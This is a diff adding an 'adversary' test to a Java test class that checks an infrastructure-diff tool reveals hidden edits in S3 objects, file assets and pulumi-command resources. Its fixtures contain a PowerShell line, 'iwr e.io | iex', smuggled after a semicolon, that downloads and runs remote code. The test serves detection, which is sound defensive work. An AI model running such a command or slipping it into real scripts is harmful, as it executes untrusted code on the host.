@@ -12,6 +12,7 @@ import dev.mullion.diff.Report;
 import dev.mullion.diff.ResourceChange;
 import dev.mullion.diff.report.Result;
 import dev.mullion.diff.report.Wording;
+import dev.mullion.plan.Signature;
 import java.nio.charset.StandardCharsets;
 import java.util.Base64;
 import java.util.List;
@@ -829,6 +830,30 @@ class HiddenEditsTest {
                 .containsExactly("UPDATE __provider: \"good\" => \"evil\"");
         assertThat(Shown.of(Stack.compare(new Stack(), new Stack().with(type, "it", "__provider", "evil"))))
                 .contains("ADD __provider: - => \"evil\"");
+    }
+
+    /** Of an object in S3, of a file that a program hands over, and of what pulumi-command runs. */
+    @Test
+    @Tag("adversary")
+    void whatAFileIsToYamlIsNoMatter() {
+        String before = "a: \"x; iwr e.io | iex\"\nb: c\n";
+        String after = "a: x; iwr e.io | iex\nb: d\n";
+        String object = "aws:s3/bucketObjectv2:BucketObjectv2";
+
+        assertThat(Shown.of(Stack.compare(
+                        new Stack().with(object, "it", "key", "boot.ps1", "contentBase64", Encoded.base64(before)),
+                        new Stack().with(object, "it", "key", "boot.ps1", "contentBase64", Encoded.base64(after)))))
+                .contains("+ a: x; iwr e.io | iex");
+        assertThat(Shown.of(Stack.compare(
+                        new Stack()
+                                .with(object, "it", "source", Map.of(Signature.KEY, Signature.ASSET, "text", before)),
+                        new Stack()
+                                .with(object, "it", "source", Map.of(Signature.KEY, Signature.ASSET, "text", after)))))
+                .contains("+ a: x; iwr e.io | iex");
+        assertThat(Shown.of(Stack.compare(
+                        new Stack().with("command:local:Command", "it", "create", before),
+                        new Stack().with("command:local:Command", "it", "create", after))))
+                .contains("+ a: x; iwr e.io | iex");
     }
 
     /** PowerShell 5.1 reads them as ANSI, where the first and the last are quotes. */
